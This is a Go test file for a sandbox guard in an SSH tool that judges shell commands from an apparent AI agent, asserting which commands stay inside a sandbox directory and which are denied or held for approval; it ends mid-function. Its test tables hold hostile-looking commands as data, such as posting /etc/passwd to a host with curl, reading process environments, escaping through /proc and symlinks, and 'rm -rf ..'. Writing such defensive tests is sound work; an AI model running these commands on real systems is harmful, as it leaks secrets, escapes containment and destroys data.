package sandbox_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fairlead-ssh/fairlead/hosts"
	"github.com/fairlead-ssh/fairlead/session/policy"
	"github.com/fairlead-ssh/fairlead/session/sandbox"
)

// tree makes a sandbox with everything that is of interest in it, and a place outside.
func tree(t testing.TB) (dir string) { return treeIn(t, scratch(t)) }

func treeIn(t testing.TB, dir string) string {
	for _, name := range []string{"box/a.txt", "box/b.txt", "box/sub/x.txt", "box/sub/deep/y.txt", "box/-n", "box/sp ace", "box/new\nline", "out/secret", "out/keep"} {
		write(t, dir+"/"+name, name+"\n")
	}
	link(t, "../out", dir+"/box/esc")
	link(t, "../out/secret", dir+"/box/escfile")
	link(t, dir+"/out", dir+"/box/sub/abs")
	link(t, "../../out", dir+"/box/sub/up")
	link(t, "sub/deep", dir+"/box/in")
	link(t, "nowhere", dir+"/box/dangling")
	link(t, "../out/new", dir+"/box/dangout")
	link(t, "../box", dir+"/out/back")
	link(t, "../box/a.txt", dir+"/out/backfile")
	return dir
}

func guard(t testing.TB, dir string, inner policy.Decider, change ...func(*sandbox.GuardConfig)) *sandbox.Guard {
	t.Helper()
	cfg := sandbox.GuardConfig{Inner: inner, Sandbox: box(dir + "/box"), Level: sandbox.LevelChecked, Resolver: sandbox.Local{}}
	for _, f := range change {
		f(&cfg)
	}
	g, err := sandbox.NewGuard(cfg)
	require.NoError(t, err)
	return g
}

func request(dir, shell, command string) policy.Request {
	return policy.Request{Principal: "agent/mcp", Host: hosts.Host{Name: "web1"}, Shell: shell, Command: command, Dir: dir}
}

func decide(t testing.TB, g *sandbox.Guard, req policy.Request) policy.Decision {
	t.Helper()
	d, err := g.Decide(context.Background(), req)
	require.NoError(t, err)
	return d
}

// In the commands, OUT and BOX stand for the absolute paths.
func TestWhatNamesPathsInsideIsAllowed(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for _, command := range []string{
		"ls", "ls -la sub", "cat a.txt b.txt", "cat 'sp ace'", `cat "new
line"`, "cat ./sub/../a.txt", "cat BOX/a.txt", "cat in/y.txt", "cat in/../x.txt",
		"cd sub && cat ../a.txt", "! cd sub || cat ../a.txt", "cd sub && cd .. && cat a.txt", "(cd sub && ls) | wc -l", "cd BOX/sub; cat x.txt", "cd ./sub", "cd -P in && cat ../x.txt", "{ ls; cd sub; } && cat ../a.txt", "if cd sub; then cat ../a.txt; else ls sub; fi",
		"grep -rn /etc/passwd .", "grep -e ../.. a.txt", "sed -n 's/..\\/x/y/p' a.txt", "sed -i 's/a/b/' a.txt", "sed -es/a/b/ a.txt", "sed -n 'w new.txt' a.txt", "awk '{print $1}' a.txt", "jq . a.txt",
		"find . -name '*.txt' -type f", "find sub -path '*/deep/*'", "sort -t/ -k2 a.txt", "sort a.txt -o b.txt", "cut -d/ -f1 a.txt", "tr / : <a.txt",
		"echo hi >new.txt", "echo /etc/passwd ../..", "printf '%s\\n' x >>a.txt", "cat <a.txt >copy.txt 2>&1", "cat a.txt >/dev/null 2>&1", "cat /dev/null a.txt", "head -c 9 /dev/urandom", "cat a.txt | tee /dev/null", "cat <<EOF\nplain\nEOF", "cat <<'EOF'\n$(x)\nEOF",
		"mkdir -p one/two && touch one/two/f", "rm a.txt", "rm -rf sub/deep", "rmdir one", "mv a.txt sub", "mv a.txt c.txt", "cp a.txt sub/", "cp a.txt b.txt sub", "cp -p a.txt c.txt",
		"ln a.txt hard", "ln -s a.txt soft", "ln -s ../a.txt sub/soft", "ln -sfn sub current", "chmod 644 a.txt", "chmod -R u+w sub", "tee -a a.txt </dev/null", "truncate -s 0 a.txt",
		"ps aux", "df -h", "uname -a", "id", "uptime", "hostname", "date +%d/%m", "true", "pwd", "type ls", "command -v git", "command ls sub",
		"if test -f a.txt; then cat a.txt; else echo no; fi", "for f in a.txt b.txt; do echo x; done", "case x in a|b) ls;; esac", "[ -d sub ] && ls sub", "! test -e zzz",
		"timeout 5 cat a.txt", "nice -n 5 ls sub", "env LC_ALL=C sort a.txt", "sh -c 'cat a.txt'", "LC_ALL=C ls", "time ls", "/bin/cat a.txt", "stat a.txt; wc -l sub/x.txt",
		"cat -n -- -n", "head -n5 a.txt", "head -c 10 sub/x.txt", "ls -- -n", "cat - </dev/null", "rm ./-n", "cat x=y", "touch 'a*b'", "cat dangling",
		"mkdir -m755 d", "mkdir -m 755 d", "mkdir -pv d/e", "mkdir --mode=755 d", "truncate -s 0 -c a.txt", "touch -d 2020-01-01 a.txt", "touch -r . a.txt", "touch --reference=BOX a.txt", "cp sub/x.txt .", "mv sub/x.txt .", "ln -s sub/x.txt .", "rm -rf -- sub", "ln -sT a.txt soft", "ln --symbolic a.txt sub/../soft", "cp -- a.txt b.txt", "chmod -- 644 a.txt",
		"cat a.txt >&2", "cat a.txt 2>&-", "cat a.txt 3>x", "sh -c 'cat a.txt' x", "command -- cat a.txt", "command -V ls", "env", "timeout 5 env ls", "case x in y) ls;; *) cat a.txt;; esac", "ls; for f in a; do cat sub/x.txt; done",
		"if false; then ls; elif true; then cat a.txt; else ls sub; fi", "cd sub || ls; pwd", "ls | { cat; }", "cat <a.txt | sort", "test -f a.txt -a -d sub", "[ a = b ]", "[ -n x ]", "rm a.txt; cat ./b.txt", "rm a.txt; cat BOX/b.txt", "diff a.txt b.txt", "diff a.txt sub", "[[ -e /dev/null ]]", "test -c /dev/zero",
	} {
		command = expand(dir, command)
		for _, shell := range []string{"bash", "dash"} {
			d := decide(t, g, request(dir+"/box", shell, command))
			assert.Equal(t, policy.Allow, d.Verdict, "%s: %s: %s: %s", shell, command, d.Rule, d.Reason)
			assert.True(t, d.Clean, command)
		}
	}
}

func TestWhatLeadsOutsideIsDeniedAndTheReasonSaysWhere(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for _, command := range []string{
		"cat /etc/passwd", "cat ../out/secret", "cat sub/../../out/secret", "ls ..", "ls /", "ls esc", "cat esc/secret", "cat escfile", "cat sub/abs/keep", "cat sub/up/keep", "cat OUT/secret",
		"cat esc/back/a.txt > esc/x", "echo x >../x", "echo x >>OUT/x", "echo x >|esc/x", "echo x >dangout", "cat <escfile", "cat <>OUT/x", "echo x 2>../x", "cat <a.txt >../../x",
		"cd .. && cat out/secret", "cd ..; ls", "cd sub; cat ../../out/secret", "cd sub && cd .. && cat ../out/secret", "cd in && cat ../../../out/secret", "cd in && cd .. && cat ../out/secret", "cd esc && ls", "(cd / && ls)", "cd sub; cat ../x.txt", "! cd sub && cat ../x.txt", "cd sub || cat ../x.txt",
		"cd /", "cd BOX/..", "ls && cd /tmp && ls", "true || cat /etc/passwd", "false && cat /etc/passwd", "if true; then cat /etc/passwd; fi", "for i in 1 2; do cat /etc/passwd; done", "while read x; do cat /etc/passwd; done", "case a in a) cat /etc/passwd;; esac", "{ cat /etc/passwd; }", "! cat /etc/passwd",
		"cat /proc/self/root/etc/passwd", "cat /proc/self/rootBOX/a.txt", "ls /proc/1/cwd", "ls /proc/self/cwd/", "cat /dev/fd/0", "cat /dev/stdin", "cat /proc/$$/environ", "cat /dev/fd/../fd/3", "echo x >/dev/fd/7", "cat /dev/null/../../etc/passwd", "cat //etc/passwd", "cat /./etc/passwd",
		`cat "/etc/passwd"`, `cat '/etc/pass'wd`, `cat /et\c/passwd`, `cat "../"out/secret`, `cat ..""/out/secret`, `c\at ../out/secret`, `'cat' ../out/secret`, "cat \\\n../out/secret", "cat ../out/*", "cat $x /etc/passwd", `cat "$x" ../out/secret`,
		"grep x ../out/secret", "grep -f ../out/secret a.txt", "grep -f../out/secret a.txt", "grep --file=../out/secret a.txt", "grep --fil=OUT/secret a.txt", "grep -r x ..", "diff a.txt escfile", "diff BOX/x/up sub", "find .. -name x", "find / -maxdepth 1", "find sub ../out", "find . -newer ../out/secret",
		"sed -n 'w ../x' a.txt", "sed -n 's/a/b/w OUT/x' a.txt", "sed 'r ../out/secret' a.txt", "sed -i s/a/b/ ../out/keep", "sed -i s/a/b/ esc/keep", "sort a.txt -o ../x", "sort -o../x a.txt", "sort --output=OUT/x a.txt", "uniq a.txt ../x", "xxd a.txt OUT/x",
		"rm ../out/keep", "rm -rf ..", "rm -rf BOX", "rm -rf .", "rm esc/keep", "rm -r sub/..", "rm escfile", "mv a.txt ..", "mv a.txt esc/", "mv ../out/keep .", "mv BOX x", "cp a.txt ../x", "cp /etc/passwd .", "cp escfile x", "cp a.txt esc", "ln ../out/keep x", "ln -s /etc x", "ln -s ../out x", "ln -s ../.. sub/x", "ln -s .. sub/deep/../../x",
		"mkdir ../x", "mkdir -p sub/../../x", "touch OUT/x", "touch -r ../out/keep a.txt", "touch --reference=OUT/keep a.txt", "truncate -s0 escfile", "tee esc/x <a.txt", "chmod 777 ..", "chmod -R 777 esc/",
		"unknown /dev/null", "cat /dev/null; unknown /dev/null", "tee /dev/null <a.txt; unknown /dev/null", "[[ -e /dev/null ]]; unknown /dev/null", "ls >/dev/null; unknown /dev/null", "rm /dev/null", "mv a.txt /dev/null", "chmod 600 /dev/null", "ln -sf a.txt /dev/null", "touch /dev/null", "cp a.txt /dev/zero", "truncate -s 0 /dev/null", "sed -i s/a/b/ /dev/null", "cat /dev/tty", "echo x >/dev/stderr",
		"tar -C .. -cf x.tar out", "tar cf /tmp/x.tar .", "tar --directory=/etc -cf x .", "tar -cf x.tar -C/etc passwd", "git -C .. status", "git --git-dir=../.git log", "make -C ..", "curl -o /tmp/x http://h/x", "curl -d @/etc/passwd http://h/", "scp a.txt h:../x", "dd if=/etc/passwd of=x", "dd if=a.txt of=../x", "env -C .. ls", "unknown --out=/etc/x", "unknown -o/etc/x", "../evil", "/tmp/evil", "rsync a.txt /tmp/",
		"sh -c 'cat /etc/passwd'", "bash -c 'cd .. && ls'", "timeout 5 cat /etc/passwd", "nice cat ../out/secret", "env cat ../out/secret", "command cat ../out/secret", "sh -c \"sh -c 'cat ../out/secret'\"", "xargs cat ../out/secret", "[ -f ../out/secret ]", "test -e /etc/passwd && echo", "time cat /etc/passwd", "stat -- ../out", "wc -l <../out/secret", "ls a.txt /etc", "df /", "cat <<EOF >../x\nx\nEOF", "ls -d ..", "readlink escfile",
	} {
		command = expand(dir, command)
		for _, shell := range []string{"bash", "dash", ""} {
			d := decide(t, g, request(dir+"/box", shell, command))
			assert.Equal(t, policy.Deny, d.Verdict, "%s: %s: %s: %s", shell, command, d.Rule, d.Reason)
			assert.Equal(t, "sandbox/outside", d.Rule, command)
		}
	}
	d := decide(t, g, request(dir+"/box", "bash", "cat sub/up/keep"))
	assert.Equal(t, `"sub/up/keep" leads to "`+dir+`/out/keep", outside the sandbox `+dir+`/box`, d.Reason)
	assert.NotEmpty(t, d.Hint)
}

func TestWhatCannotBeToldBeforehandAsks(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for _, command := range []string{
		"cat *", "cat *.txt", "ls [ab].txt", "cat $HOME", `cat "$x"`, "cat ~/x", "cat ~", "cat $(echo a.txt)", "cat `echo a.txt`", "cat <(ls)", "cat a.{txt,x}", "cat {a,b}.txt", "echo $x", "rm -rf \"$x\"", "cat $'a.txt'", "cat <<EOF\n$(ls)\nEOF", "cat <<<$x", "echo x >$f", "for f in a b; do cat $f; done", "for f in *; do ls; done", "x=../out; cat $x", "IFS=/; cat a.txt",
		"./run.sh", "sh run.sh", "zsh -o extendedglob -c 'cat ^a'", "bash -lc 'cat a.txt'", "bash --rcfile a.txt -ic ls", "bash sub/x.txt", ". ./a.txt", "source a.txt", "eval 'cat a.txt'", "make", "go test ./sub", "npm install", "python3 a.txt", "python3 -c 'print(1)'", "perl -e 1", "git status", "git commit -m x", "docker ps", "kubectl get pods", "curl http://h/x", "ssh h ls", "sudo ls", "crontab a.txt", "kill 1234", "reboot", "systemctl restart x", "apt-get install x", "useradd x", "at now",
		"xargs rm <a.txt", "find . -exec cat {} ;", "find . -exec rm '{}' +", "find . -delete", "find -L . -name x", "find . -fprint x.txt", "ls -LR sub", "grep -R x .", "du -L sub", "tree -l", "diff -r sub one", "cp -r sub two", "cp -a sub two", "cp -L a.txt b", "tar xf a.tar", "unzip a.zip", "patch -p1 <a.txt", "split a.txt", "rsync -a sub/ two/", "mkfifo x", "ln -s a.txt", "mv -t sub a.txt", "rmdir -p sub/deep", "chown root a.txt", "install a.txt sub",
		"mv sub/deep one && cat one/y.txt", "ln -s sub s && cat s/x.txt", "for i in 1 2; do cat one/x; mv sub one; done", "rm -r sub; mkdir sub; cat sub/../a.txt", "ln -s sub s | cat s/x.txt",
		"ls &", "sleep 1 & cat a.txt", "f() { ls; }; f", "alias ls=rm", "set -e; ls", "trap ls EXIT", "exec ls", "cd", "cd -", "cd $x", "pushd sub", "for i in 1 2 3; do cd sub; done", "[[ -f $x ]]", "(( x=1 ))", "export X=1", "PATH=. ls", "LD_PRELOAD=./a.txt ls", "cat <&5", "exec 3<a.txt", "sh -c 'cat \"$0\"' a.txt", "env X=1 ls", "awk '{print > \"x\"}' a.txt", "awk 'BEGIN{while((getline l<\"a\")>0)print l}'", "awk 'BEGIN{system(\"ls\")}'", "awk 'BEGIN{ARGV[1]=\"x\"}1' a", "sed -n '1e ls' a.txt", "sed -f a.txt b.txt", "sed -i.bak/x s/a/b/ a.txt", "jq 'import \"a\" as a; .' a.txt", "sort --compress-program=./x a.txt", "sort -T sub a.txt", "wc --files0-from=a.txt", "cat a.txt |", "cat 'a.txt", "vi a.txt", "less a.txt", "nohup ls", "watch ls", "ls \x7f",
		"mkdir -m", "mkdir -Z d", "mkdir --mode 755 d", "mkdir --unknown d", "rm -x a.txt", "cp -r -- sub x", "ln a.txt", "a=(1) ls", "a[0]=x ls", "X=1", "X=$y ls", "for ((i=0;i<2;i++)); do ls; done", "select x in a; do ls; done", "for f in $x; do ls; done", "case $x in a) ls;; esac", "case x in $y) ls;; esac",
		"[[ $x == a ]]", "{fd}>x ls", "cat <<EOF\n`ls`\nEOF", "cat a.txt >&$x", "command -p ls", "sh", "sh -s", "nice", "bash -c", "coproc ls", "rm a.txt; cat sub/../b.txt", "ls\n. ./a.txt", "cp in/.. x", "mv in/.. x", "ln in/.. x", `cat a.txt\`, "diff --recursive sub one", "diff --rec sub one", "ls --dereference sub", "ls --deref sub", "sed --follow-symlinks -i s/a/b/ a.txt", "find . -follow", "find . -fls x", "find . -fprint0 x", "find . -fprintf x %p", "find . -ok ls ;", "find . -okdir ls ;", "find . -execdir ls ;",
		"awk '{print > $1}' a.txt", "awk '@include \"x\"' a.txt", "awk 'BEGIN{\"ls\"|getline}' a.txt", "jq 'include \"x\"; .' a.txt", "sed -i/x s/a/b/ a.txt", "sed -i'*' s/a/b/ a.txt", "rg -L x", "fd --follow x", "getfacl -L sub", "sort --temporary-directory=sub a.txt",
	} {
		for _, shell := range []string{"bash", "dash", ""} {
			d := decide(t, g, request(dir+"/box", shell, command))
			assert.Equal(t, policy.Ask, d.Verdict, "%s: %s: %s: %s", shell, command, d.Rule, d.Reason)
			assert.Equal(t, "sandbox/uncertain", d.Rule, command)
			assert.Equal(t, policy.NeedsApproval, d.Needs, command)
		}
	}
}

// What is opened as it is leads where its link does. What takes a name away, or gives it to something else, changes the
// directory that the name is in.
func TestANameOutsideThatLeadsInsideIsOpenedAndNotReplaced(t *testing.T) {
	dir := tree(t)
	link(t, dir+"/box/sub", dir+"/out/backsub")
	for _, level := range []sandbox.Level{sandbox.LevelChecked, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for command, want := range map[string]policy.Verdict{
			"cat OUT/backfile": policy.Allow, "echo x >OUT/backfile": policy.Allow, "uniq a.txt OUT/backfile": policy.Allow, "tee OUT/backfile <a.txt": policy.Allow, "truncate -s0 OUT/backfile": policy.Allow, "touch -r OUT/backfile a.txt": policy.Allow, "diff OUT/backfile b.txt": policy.Allow, "cp OUT/backfile b.txt": policy.Allow,
			"sed -i s/a/b/ OUT/backfile": policy.Deny, "sort a.txt -o OUT/backfile": policy.Deny, "rm OUT/backfile": policy.Deny, "mv OUT/backfile .": policy.Deny, "mv a.txt OUT/backfile": policy.Deny, "cp a.txt OUT/backfile": policy.Deny, "ln -sf a.txt OUT/backfile": policy.Deny,
			"cat OUT/back/a.txt": policy.Allow, "sed -i s/a/b/ OUT/back/a.txt": policy.Allow, "rm OUT/back/a.txt": policy.Allow, "rmdir OUT/back/sub/deep": policy.Allow, "rm -r OUT/back": policy.Deny,
			"ls OUT/backsub/": policy.Allow, "rm -r OUT/backsub": policy.Deny, "rmdir OUT/backsub/": policy.Deny, "mv OUT/backsub/ x": policy.Deny,
		} {
			d := decide(t, g, request(dir+"/box", "bash", expand(dir, command)))
			assert.Equal(t, want, d.Verdict, "%s: %s: %s", level, command, d.Reason)
		}
	}
}

// Whatever may be a path in a word of a program that is not known is looked at as one.
func TestAPathIsSeenInWordsThatAreNotKnown(t *testing.T) {
	dir := tree(t)
	for _, level := range []sandbox.Level{sandbox.LevelChecked, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for _, word := range []string{"/etc", "..", "../x", "-C..", "-C../x", "-C/etc", "-xC..", "-xvC../x", "--dir=..", "--dir=../x", "--dir=/etc", "dir=/etc", "dir=../x", "@/etc/passwd", "@../x", "h:/etc", "h:../x", "h:..", "-d@../x", "esc", "escfile", "-a../../x"} {
			d := decide(t, g, request(dir+"/box", "bash", "unknown "+word))
			assert.Equal(t, policy.Deny, d.Verdict, "%s: %s: %s", level, word, d.Reason)
		}
		for _, word := range []string{"", "''", "-", "--", "-v", "-x1", "--all", "a.txt", "sub/../a.txt", "http://h/x", "a:b", "@", "x=", "a..", "a..b", "-r1..2", "--since=1..2", "h:sub/x", "v1.0..v2.0"} {
			d := decide(t, g, request(dir+"/box", "bash", "unknown "+word))
			assert.NotEqual(t, policy.Deny, d.Verdict, "%s: %s: %s", level, word, d.Reason)
		}
	}
}

// What one policy says comes with what the other has found out.
func TestADecisionSaysWhatACommandDoes(t *testing.T) {
	dir := tree(t)
	bare := policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) {
		return policy.Decision{Verdict: policy.Allow, Rule: "inner"}, nil
	})
	g := guard(t, dir, bare)
	d := decide(t, g, request(dir+"/box", "bash", "cat a.txt"))
	assert.Equal(t, policy.Decision{Verdict: policy.Allow, Class: policy.ReadOnly, Rule: "inner", Clean: true, Uses: []string{"cat"}}, d)
	d = decide(t, g, request(dir+"/box", "bash", "ls\r\ncat a.txt\r\n"))
	assert.Equal(t, "ls\ncat a.txt\n", d.Send)
	assert.Equal(t, policy.Allow, d.Verdict)
	d = decide(t, g, request(dir+"/box", "bash", "rm a.txt"))
	assert.True(t, d.Taints)
	assert.Equal(t, policy.Allow, d.Verdict)
	d = decide(t, g, request(dir+"/box", "bash", "x=1; ls"))
	assert.Equal(t, policy.Ask, d.Verdict)
	assert.False(t, d.Clean)
	assert.Contains(t, d.Sets, "x")

	said := policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) {
		return policy.Decision{Verdict: policy.Ask, Class: policy.Dangerous, Rule: "inner", Send: "theirs"}, nil
	})
	d = decide(t, guard(t, dir, said), request(dir+"/box", "bash", "cat a.txt\r\n"))
	assert.Equal(t, policy.Ask, d.Verdict)
	assert.Equal(t, policy.Dangerous, d.Class)
	assert.Equal(t, "theirs", d.Send)
	assert.False(t, d.Clean)
}

// zsh reads =ls as the path of ls, also behind quotes that hold nothing.
func TestTheNameOfACommandIsNoPathInside(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for _, word := range []string{"=ls", "''=ls", `""=ls`, "=''ls", "\\\n=ls"} {
		assert.Equal(t, policy.Ask, decide(t, g, request(dir+"/box", "zsh", "cat "+word)).Verdict, word)
	}
	assert.Equal(t, policy.Allow, decide(t, g, request(dir+"/box", "zsh", "cat '=ls' a=ls")).Verdict)
}

func TestWhatIsTooMuchToLookAtAsksWithoutBeingRead(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for name, command := range map[string]string{
		"long":         "ls " + strings.Repeat("a ", 1<<20),
		"deep":         strings.Repeat("(", 1<<20),
		"substitution": strings.Repeat("$(", 1<<20),
		"many paths":   "cat" + strings.Repeat(" a", 300) + strings.Repeat("/a", 10),
		"many parts":   strings.Repeat("ls;", 10_000),
		"many places":  strings.Repeat("cd sub; ", 20) + "ls",
	} {
		d := decide(t, g, request(dir+"/box", "bash", command))
		if name == "many paths" { // they are all the same one
			assert.Equal(t, policy.Allow, d.Verdict, "%s: %s", name, d.Reason)
			continue
		}
		assert.Equal(t, policy.Ask, d.Verdict, "%s: %s", name, d.Reason)
	}
	var many strings.Builder
	for i := range 300 {
		fmt.Fprintf(&many, " f%d", i)
	}
	assert.Equal(t, policy.Ask, decide(t, g, request(dir+"/box", "bash", "cat"+many.String())).Verdict)
}

func TestAGuardOnlyMakesAPolicyStricter(t *testing.T) {
	dir := tree(t)
	always := func(v policy.Verdict) policy.Decider {
		return policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) {
			return policy.Decision{Verdict: v, Class: policy.Unknown, Rule: "inner", Reason: "because"}, nil
		})
	}
	for inner, want := range map[policy.Verdict][3]policy.Verdict{
		policy.Deny:  {policy.Deny, policy.Deny, policy.Deny},
		policy.Ask:   {policy.Ask, policy.Deny, policy.Ask},
		policy.Allow: {policy.Allow, policy.Deny, policy.Ask},
	} {
		g := guard(t, dir, always(inner))
		for i, command := range []string{"cat a.txt", "cat ../out/secret", "cat *"} {
			d := decide(t, g, request(dir+"/box", "bash", command))
			assert.Equal(t, want[i], d.Verdict, "%v: %s", inner, command)
			if inner != policy.Allow && d.Verdict == inner {
				assert.Equal(t, "inner", d.Rule)
			}
		}
	}
	broken := errors.New("broken")
	g := guard(t, dir, policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) { return policy.Decision{}, broken }))
	_, err := g.Decide(t.Context(), request(dir+"/box", "bash", "ls"))
	require.ErrorIs(t, err, broken)
}

func TestTheShellMustStandInTheSandboxAndMayGoBack(t *testing.T) {
	dir := tree(t)
	for _, level := range []sandbox.Level{sandbox.LevelChecked, sandbox.LevelAccount, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for at, ok := range map[string]bool{
			dir + "/box": true, dir + "/box/sub": true, dir + "/out/back": true, dir + "/box/in": true,
			dir: false, dir + "/out": false, dir + "/box/esc": false, dir + "/boxes": false, "/": false, "": false, "relative": false, dir + "/box/../out": false,
		} {
			d := decide(t, g, request(at, "bash", "ls"))
			assert.Equal(t, ok, d.Verdict == policy.Allow, "%s: %q: %s", level, at, d.Reason)
			if !ok {
				assert.Equal(t, "sandbox/cwd", d.Rule)
				assert.Equal(t, policy.Allow, decide(t, g, request(at, "bash", "cd "+dir+"/box/sub")).Verdict, "%s: %q", level, at)
				assert.Equal(t, policy.Deny, decide(t, g, request(at, "bash", "cd "+dir+"/out")).Verdict, "%s: %q", level, at)
				assert.Equal(t, policy.Deny, decide(t, g, request(at, "bash", "cd "+dir+"/box && ls")).Verdict, "%s: %q", level, at)
			}
		}
	}
}

// What surely is a path and leads outside is denied whatever holds the session; the rest is left to that.
func TestWhatIsHeldIsNotAskedAbout(t *testing.T) {
	dir := tree(t)
	for _, level := range []sandbox.Level{sandbox.LevelAccount, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for command, want := range map[string]policy.Verdict{
			"cat /etc/passwd": policy.Deny, "cat esc/secret": policy.Deny, "ls ..": policy.Deny, "cp a.txt OUT": policy.Deny, "cat <OUT/secret": policy.Deny, "echo x >../y": policy.Deny, "test -e /etc/passwd": policy.Deny, "[ ! -f /etc/passwd -o x ]": policy.Deny, "[[ x && -s /etc/passwd ]]": policy.Deny, "cat a.txt escfile": policy.Deny,
			"cd sub; cat ../../out/secret": policy.Deny, "cd $x && cat /etc/passwd": policy.Deny, "(cd sub; cat ../../a)": policy.Deny, "sh -c 'cat ../out/secret'": policy.Deny, "rm a.txt; cat /etc/passwd": policy.Deny, "rm a.txt; cat ../out/keep": policy.Deny,
			"cat /dev/fd/3": policy.Deny, "cat /proc/self/root/etc/passwd": policy.Deny, "chmod 666 /dev/null": policy.Deny, "rm /dev/null": policy.Deny, "cat /dev/../etc/passwd": policy.Deny, "mv a.txt /dev/stdout": policy.Deny,
			"echo $(cat /etc/passwd)": policy.Deny, "echo `cat OUT/secret`": policy.Deny, "cat <(cat /etc/passwd)": policy.Deny, "x=$(< /etc/passwd)": policy.Deny, `f() { cat /etc/passwd; }; f`: policy.Deny, "coproc cat /etc/passwd": policy.Deny, "cat <<EOF\n$(cat /etc/passwd)\nEOF": policy.Deny, `echo "$(echo $(cat /etc/passwd))"`: policy.Deny,
			"echo $(cat a.txt)": policy.Allow, "cd sub; x=$(cat ../a.txt)": policy.Allow, "echo $(cat BOX/a.txt)": policy.Allow, "x=$(cat /dev/null)": policy.Allow,
			"cat a.txt": policy.Allow, "make": policy.Allow, "rm *": policy.Allow, "./run": policy.Allow, `cat "$x"`: policy.Allow, "/usr/bin/cat a.txt": policy.Allow, "ls >/dev/null 2>/dev/null": policy.Allow,
			"cd sub; cat ../a.txt": policy.Allow, "cd sub || cd in; cat ../a.txt": policy.Allow, "cd $x && cat ../a": policy.Allow, "go_there; cat ../a": policy.Allow, "rm esc; mkdir esc; touch esc/x": policy.Allow, "rm BOX/esc; touch BOX/esc/x": policy.Allow,
			`[ "$x" = / ]`: policy.Allow, `[[ $x == /etc* && -f a.txt ]]`: policy.Allow, "rm escfile": policy.Allow, "mv escfile x": policy.Allow, "rm -rf esc": policy.Allow, "rm -rf esc/": policy.Deny, "rm esc/keep": policy.Deny, "rm -rf BOX": policy.Deny, "rm -r ..": policy.Deny, "rm -r sub/..": policy.Deny, "mv a.txt esc": policy.Deny,
			"make PREFIX=/usr": policy.Deny, "unknown /etc/x": policy.Deny, "unknown --out=../x": policy.Deny, "git -C .. status": policy.Deny, "git --git-dir=OUT/.git show HEAD": policy.Deny, "dd if=/etc/passwd of=x": policy.Deny, "tar -C .. -cf x.tar out": policy.Deny, "env -C .. ls": policy.Deny, "../evil": policy.Deny,
			"perl -ne '/foo/ && print' a.txt": policy.Allow, "mysql -e '/* x */ select 1'": policy.Allow, "unknown out=x": policy.Allow, "git status": policy.Allow, "curl http://h/x": policy.Allow,
			"echo x >/dev/stderr": policy.Allow, "cat /dev/stdin": policy.Allow, "cat a.txt | tee /dev/stderr": policy.Allow, "head -c 5 /dev/urandom": policy.Allow, "read x </dev/tty": policy.Allow,
		} {
			d := decide(t, g, request(dir+"/box", "bash", expand(dir, command)))
			assert.Equal(t, want, d.Verdict, "%s: %s: %s", level, command, d.Reason)
		}
	}
}

func TestAShellThatIsHeldMayNotGoOutsideEither(t *testing.T) {
	dir := tree(t)
	for _, level := range []sandbox.Level{sandbox.LevelAccount, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for command, want := range map[string]policy.Verdict{
			"cd /": policy.Deny, "cd ..": policy.Deny, "cd .. && make": policy.Deny, "ls; cd ..": policy.Deny, "cd esc": policy.Deny, "cd -P sub/up; ls": policy.Deny, "if cd /tmp; then ls; fi": policy.Deny,
			"make && cd /tmp": policy.Deny, "{ cd OUT; }": policy.Deny, "cd sub && cd ../..": policy.Deny, "ls | cd /": policy.Deny, "command cd /": policy.Deny,
			"(cd / && ls)": policy.Deny, "cd / | cat": policy.Deny, "sh -c 'cd .. && ls'": policy.Deny, "cd / &": policy.Deny,
			"cd sub": policy.Allow, "cd sub && ls && cd ..": policy.Allow, "cd sub; ls; cd ..": policy.Allow, "cd BOX/in && ls": policy.Allow, "cd -- sub": policy.Allow,
			// Nobody can tell where these go; the next command is told that it is outside.
			"cd $x": policy.Allow, "cd": policy.Allow, "cd -": policy.Allow, "cd $x && cd ..": policy.Allow, "pushd sub && cd ..": policy.Allow, "go_there && cd ..": policy.Allow,
		} {
			d := decide(t, g, request(dir+"/box", "bash", expand(dir, command)))
			assert.Equal(t, want, d.Verdict, "%s: %s: %s", level, command, d.Reason)
			if want == policy.Deny {
				assert.Equal(t, "sandbox/outside", d.Rule, command)
			}
		}
	}
}

func TestWhoStandsOutsideIsToldTheWayBack(t *testing.T) {
	dir := tree(t)
	require.NoError(t, os.Rename(dir+"/box", dir+"/a box"))
	for _, level := range []sandbox.Level{sandbox.LevelChecked, sandbox.LevelAccount, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level, c.Sandbox.Path = level, dir+"/a box" })
		d := decide(t, g, request("/", "bash", "ls"))
		assert.Equal(t, policy.Deny, d.Verdict)
		back := "cd '" + dir + "/a box'"
		assert.Contains(t, d.Reason, "go back first, with nothing but "+back)
		assert.Equal(t, policy.Allow, decide(t, g, request("/", "bash", back)).Verdict)
		assert.Equal(t, policy.Allow, decide(t, g, request("/", "bash", "cd -- '"+dir+"/a box/sub'")).Verdict)
	}
}

// What is done without a shell does not depend on where one stands.
func TestFilesAreJudgedByTheirPathsWhereverTheShellStands(t *testing.T) {
	dir := tree(t)
	for _, level := range []sandbox.Level{sandbox.LevelChecked, sandbox.LevelKernel} {
		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
		for command, want := range map[string]policy.Verdict{
